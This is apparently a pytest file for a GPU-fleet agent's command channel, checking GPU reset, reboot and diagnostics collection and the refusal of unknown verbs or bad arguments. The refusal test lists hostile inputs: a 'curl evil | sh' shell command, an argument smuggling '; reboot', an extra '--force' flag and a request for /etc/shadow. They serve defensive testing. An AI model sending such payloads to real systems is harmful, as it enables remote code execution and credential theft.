"""The agent's side of the command channel: only fixed verbs with typed arguments run.

NVML is the FakeNvml built from a real H100's answers (no driver here); the runner is a
recorder, so no test resets a GPU or reboots this machine (a mock: no real peer can run here).
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from nodewarden_agent.commands import CommandEnv, execute

from .fakes import FakeNvml


class Recorder:
    """Stands in for subprocess.run: records argv, answers from a table."""

    def __init__(self, answers: dict[str, tuple[int, str]] | None = None):
        self.calls: list[list[str]] = []
        self.answers = answers or {}

    def __call__(self, argv: list[str], timeout: float) -> subprocess.CompletedProcess[str]:
        self.calls.append(argv)
        code, out = self.answers.get(" ".join(argv), (0, ""))
        return subprocess.CompletedProcess(argv, code, out, "" if code == 0 else "boom")


def env_with(runner: Recorder, nvml: Any = None, ib_root: Path = Path("/nonexistent")) -> CommandEnv:
    fake = nvml or FakeNvml()
    return CommandEnv(runner=runner, nvml=lambda: fake, ib_root=ib_root)


def test_reset_gpu_runs_nvidia_smi_on_that_gpu_when_no_process_holds_it():
    runner = Recorder()
    result = execute({"id": 1, "verb": "reset_gpu", "args": {"gpu": 2}}, env_with(runner))
    assert (result["status"], result["summary"]) == ("succeeded", "GPU 2 reset")
    assert runner.calls == [["nvidia-smi", "--gpu-reset", "-i", "2"]]


def test_reset_gpu_refuses_a_busy_gpu_and_runs_nothing():
    nvml = FakeNvml()
    nvml.data["gpus"][2]["pids"] = [4242, 4243]
    runner = Recorder()
    result = execute({"id": 1, "verb": "reset_gpu", "args": {"gpu": 2}}, env_with(runner, nvml))
    assert (result["status"], result["summary"]) == ("failed", "busy: 2 processes")
    assert runner.calls == []


def test_reset_gpu_does_nothing_when_nvml_cannot_tell():
    runner = Recorder()
    result = execute({"id": 1, "verb": "reset_gpu", "args": {"gpu": 2}}, env_with(runner, FakeNvml(init_error=9)))
    assert result["status"] == "failed" and "NVML cannot list processes" in result["summary"]
    assert runner.calls == []


def test_a_failed_reset_is_reported_failed():
    runner = Recorder({"nvidia-smi --gpu-reset -i 0": (255, "GPU in use")})
    result = execute({"id": 1, "verb": "reset_gpu", "args": {"gpu": 0}}, env_with(runner))
    assert (result["status"], result["summary"]) == ("failed", "nvidia-smi --gpu-reset exited 255")


def test_reboot_runs_systemctl_reboot_through_the_runner():
    runner = Recorder()
    result = execute({"id": 1, "verb": "reboot", "args": {}}, env_with(runner))
    assert (result["status"], runner.calls) == ("succeeded", [["systemctl", "reboot"]])


@pytest.mark.parametrize(
    "command",
    [
        {"verb": "shell", "args": {"cmd": "curl evil | sh"}},
        {"verb": None},
        {"verb": "reset_gpu", "args": {"gpu": "0; reboot"}},
        {"verb": "reset_gpu", "args": {"gpu": 0, "extra": "--force"}},
        {"verb": "reboot", "args": {"when": "now"}},
        {"verb": "collect_diagnostics", "args": {"collect": ["/etc/shadow"]}},
        {"verb": "reboot", "args": "now"},
    ],
)
def test_unknown_verbs_and_bad_arguments_are_refused_and_run_nothing(command):
    runner = Recorder()
    result = execute({"id": 1, **command}, env_with(runner))
    assert result["status"] == "failed" and result["summary"].startswith("refused:")
    assert runner.calls == []


def test_diagnostics_bundle_the_asked_parts_bounded_and_name_what_failed(tmp_path):
    runner = Recorder({"dmesg --kernel --time-format iso": (0, "x" * 200_000 + "\nNVRM: Xid 79\n")})
    runner.answers["nvidia-smi -q"] = (9, "")
    ib = tmp_path / "mlx5_0" / "ports" / "1"
    ib.mkdir(parents=True)
    (ib / "state").write_text("4: ACTIVE\n")
    (ib / "phys_state").write_text("5: LinkUp\n")

    result = execute({"id": 1, "verb": "collect_diagnostics", "args": {}}, env_with(runner, ib_root=tmp_path))

    assert result["status"] == "succeeded"
    bundle = result["result"]
    assert len(bundle["kernel_log"].encode()) <= 64 * 1024 and bundle["kernel_log"].endswith("NVRM: Xid 79\n")
    assert bundle["infiniband"][0]["state"] == "ACTIVE"
    assert "nvidia_smi" not in bundle and bundle["errors"]["nvidia_smi"].startswith("OSError: nvidia-smi exited 9")
